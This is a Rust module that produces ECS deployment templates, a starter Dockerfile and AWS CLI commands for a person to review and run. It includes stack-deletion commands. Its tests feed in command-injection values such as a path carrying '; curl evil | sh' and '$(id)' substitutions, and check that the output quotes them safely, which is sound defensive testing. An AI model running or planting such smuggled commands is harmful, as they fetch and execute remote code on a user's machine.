//! An application's way into ECS and out of it, as templates and commands for a person.
//!
//! This program makes no role, stack, repository or image and deletes no application. What it is
//! asked for is returned: nothing here asks AWS anything, and nothing reads a file.

use serde_json::{Map, Value, json};

use super::person::{PersonCommand, quoted};

/// A cluster, a service and its load balancer. A person's values go in as parameters, never as text.
const INFRASTRUCTURE: &str = include_str!("../../data/application_infrastructure.yaml");
/// A repository that keeps its tags and scans what is pushed.
const REPOSITORY: &str = include_str!("../../data/application_repository.yaml");

/// Who runs the commands, in every answer.
const NOTE: &str = "nothing was changed: a person reads these commands and runs them, or not";

/// What an application is deployed with.
#[derive(Debug, Clone, Copy)]
pub struct InfrastructureQuery<'a> {
    /// Its name.
    pub app: &'a str,
    /// The directory with its Dockerfile.
    pub path: &'a str,
    /// The VPC.
    pub vpc: Option<&'a str>,
    /// Subnets of that VPC, in two availability zones at least.
    pub subnets: &'a [String],
    /// CPU units of a task.
    pub cpu: Option<u32>,
    /// Memory of a task in MiB.
    pub memory: Option<u32>,
    /// How many tasks.
    pub desired_count: Option<u32>,
    /// The port that the container listens on.
    pub port: Option<u16>,
    /// The path that the load balancer checks.
    pub health_check_path: Option<&'a str>,
}

/// A Dockerfile to start from, and how to try it.
#[must_use]
pub fn containerize(path: &str, port: u16) -> Map<String, Value> {
    let dockerfile = format!(
        "# The base image of the application's language, pinned by digest before it is deployed.\n\
         FROM public.ecr.aws/docker/library/python:3.13-slim\n\
         WORKDIR /app\n\
         COPY . .\n\
         RUN pip install --no-cache-dir -r requirements.txt && useradd --system app\n\
         USER app\n\
         EXPOSE {port}\n\
         # The exec form, so that the process itself gets SIGTERM and can end in good time.\n\
         CMD [\"python\", \"app.py\"]\n"
    );
    let compose = format!("services:\n  app:\n    build: .\n    ports: [\"{port}:{port}\"]\n");
    let directory = quoted(path);
    answer(json!({
        "container_port": port,
        "base_image_recommendation": "an official image of the language, slim, pinned by digest, from public.ecr.aws \
            or your own repository, so that no pull limit of Docker Hub applies",
        "guidance": {
            "dockerfile": dockerfile,
            "docker_compose": compose,
            "requirements": [
                format!("the process listens on 0.0.0.0:{port}, not on localhost"),
                "it ends within the stop timeout (30 seconds unless the task definition says otherwise) after SIGTERM",
                "it answers a health check without needing what else is down",
                "the image is built for the CPU architecture of the task definition (X86_64 unless it says ARM64)",
            ],
        },
        "commands": [
            PersonCommand::new("builds the image", format!("docker build --platform linux/amd64 -t app {directory}")),
            PersonCommand::new("runs it here", format!("docker run --rm -p {port}:{port} app")),
        ],
    }))
}

/// How to make a repository, build an image and push it.
#[must_use]
pub fn build_image(
    app: &str,
    path: &str,
    tag: Option<&str>,
    region: Option<&str>,
) -> Map<String, Value> {
    let stack = format!("{app}-ecr-infrastructure");
    answer(json!({
        "stack_name": stack,
        "repository_name": format!("{app}-repo"),
        "image_tag": tag,
        "template": REPOSITORY,
        "commands": image_commands(app, path, tag, region),
    }))
}

/// How to deploy an application: its repository, its image, its service.
#[must_use]
pub fn create_infrastructure(
    query: InfrastructureQuery<'_>,
    region: Option<&str>,
) -> Map<String, Value> {
    let app = query.app;
    let mut overrides = vec![
        format!("AppName={app}"),
        "ImageUri=\"$IMAGE\"".to_owned(),
        format!("VpcId={}", query.vpc.map_or("VPC_ID".to_owned(), quoted)),
    ];
    let subnets = match query.subnets {
        [] => "SUBNET_ID_1,SUBNET_ID_2".to_owned(),
        given => quoted(&given.join(",")),
    };
    overrides.push(format!("SubnetIds={subnets}"));
    let numbers = [
        ("TaskCpu", query.cpu),
        ("TaskMemory", query.memory),
        ("DesiredCount", query.desired_count),
        ("ContainerPort", query.port.map(u32::from)),
    ];
    for (name, value) in numbers {
        overrides.extend(value.map(|value| format!("{name}={value}")));
    }
    let path = query.health_check_path;
    overrides.extend(path.map(|path| format!("HealthCheckPath={}", quoted(path))));
    let mut commands = image_commands(app, query.path, None, region);
    let region = region_flag(region);
    commands.push(PersonCommand::new(
        "deploys the cluster, the service and its load balancer (save `template` as service.yaml first)",
        format!(
            "aws cloudformation deploy{region} --stack-name {app}-ecs-infrastructure --template-file service.yaml \
             --capabilities CAPABILITY_IAM --parameter-overrides {}",
            overrides.join(" ")
        ),
    ));
    answer(json!({
        "stack_name": format!("{app}-ecs-infrastructure"),
        "repository_template": REPOSITORY,
        "template": INFRASTRUCTURE,
        "commands": commands,
    }))
}

/// How to delete an Express Mode service and its repository.
#[must_use]
pub fn delete_app(service_arn: &str, app: &str, region: Option<&str>) -> Map<String, Value> {
    let flag = region_flag(region);
    answer(json!({
        "commands": [
            PersonCommand::new(
                "deletes the service with its load balancer",
                format!("aws ecs delete-express-gateway-service{flag} --service-arn {}", quoted(service_arn)),
            ),
            delete_stack(&format!("{app}-ecr-infrastructure"), region),
        ],
        "warning": "a repository that still holds images is not deleted with its stack",
    }))
}

/// How to delete an application's stacks.
#[must_use]
pub fn delete_infrastructure(app: &str, region: Option<&str>) -> Map<String, Value> {
    answer(json!({
        "commands": [
            delete_stack(&format!("{app}-ecs-infrastructure"), region),
            delete_stack(&format!("{app}-ecr-infrastructure"), region),
        ],
        "warning": "a repository that still holds images is not deleted with its stack",
    }))
}

fn image_commands(
    app: &str,
    path: &str,
    tag: Option<&str>,
    region: Option<&str>,
) -> Vec<PersonCommand> {
    let flag = region_flag(region);
    let tag = tag.map_or("$(date +%s)".to_owned(), quoted);
    let directory = quoted(path);
    vec![
        PersonCommand::new(
            "makes the repository (save the repository's template as repository.yaml first)",
            format!(
                "aws cloudformation deploy{flag} --stack-name {app}-ecr-infrastructure --template-file \
                 repository.yaml --parameter-overrides AppName={app}"
            ),
        ),
        PersonCommand::new(
            "names the image",
            format!(
                "REPOSITORY=$(aws ecr describe-repositories{flag} --repository-names {app}-repo --query \
                 'repositories[0].repositoryUri' --output text); IMAGE=\"$REPOSITORY\":{tag}"
            ),
        ),
        PersonCommand::new(
            "signs Docker in",
            format!(
                "aws ecr get-login-password{flag} | docker login --username AWS --password-stdin \"${{REPOSITORY%%/*}}\""
            ),
        ),
        PersonCommand::new(
            "builds and pushes the image",
            format!(
                "docker build --platform linux/amd64 -t \"$IMAGE\" {directory} && docker push \"$IMAGE\""
            ),
        ),
    ]
}

fn delete_stack(stack: &str, region: Option<&str>) -> PersonCommand {
    PersonCommand::new(
        format!("deletes the stack {stack} with everything in it"),
        format!(
            "aws cloudformation delete-stack{} --stack-name {}",
            region_flag(region),
            quoted(stack)
        ),
    )
}

fn region_flag(region: Option<&str>) -> String {
    region.map_or_else(String::new, |region| {
        format!(" --region {}", quoted(region))
    })
}

fn answer(value: Value) -> Map<String, Value> {
    let mut answer = Map::new();
    answer.insert("status".to_owned(), "for_a_person".into());
    answer.insert("message".to_owned(), NOTE.into());
    if let Value::Object(fields) = value {
        answer.extend(fields);
    }
    answer
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whatever_a_model_gives_stays_one_word_of_a_command() {
        let path = "/srv/app; curl evil | sh";
        let arn = "arn:aws:ecs:eu-west-1:111122223333:express/`id`";
        for told in [
            containerize(path, 80),
            build_image("shop", path, Some("$(id)"), Some("eu-west-1")),
            delete_app(arn, "shop", None),
        ] {
            let told = Value::Object(told).to_string();
            let hostile = [path, arn, "$(id)"];
            for word in hostile.into_iter().filter(|word| told.contains(word)) {
                assert!(told.contains(&format!("'{word}'")), "{told}");
            }
        }
    }

    #[test]
    fn the_templates_are_yaml_and_the_parameters_are_theirs() {
        let query = InfrastructureQuery {
            app: "shop",
            path: "/srv/shop",
            vpc: Some("vpc-1"),
            subnets: &["subnet-1".to_owned(), "subnet-2".to_owned()],
            cpu: Some(256),
            memory: Some(512),
            desired_count: Some(2),
            port: Some(8080),
            health_check_path: Some("/health"),
        };
        let told = create_infrastructure(query, Some("eu-west-1"));
        let deploy = told["commands"].as_array().unwrap().last().unwrap();
        let command = deploy["command"].as_str().unwrap();
        let (_, overrides) = command.split_once("--parameter-overrides ").unwrap();
        let parameters: Vec<&str> = overrides
            .split(' ')
            .map(|one| one.split_once('=').unwrap().0)
            .collect();
        assert_eq!(parameters.len(), 9);
        for name in parameters {
            assert!(INFRASTRUCTURE.contains(&format!("\n  {name}:\n")), "{name}");
        }
        assert!(REPOSITORY.contains("\n  AppName:\n"));
    }
}
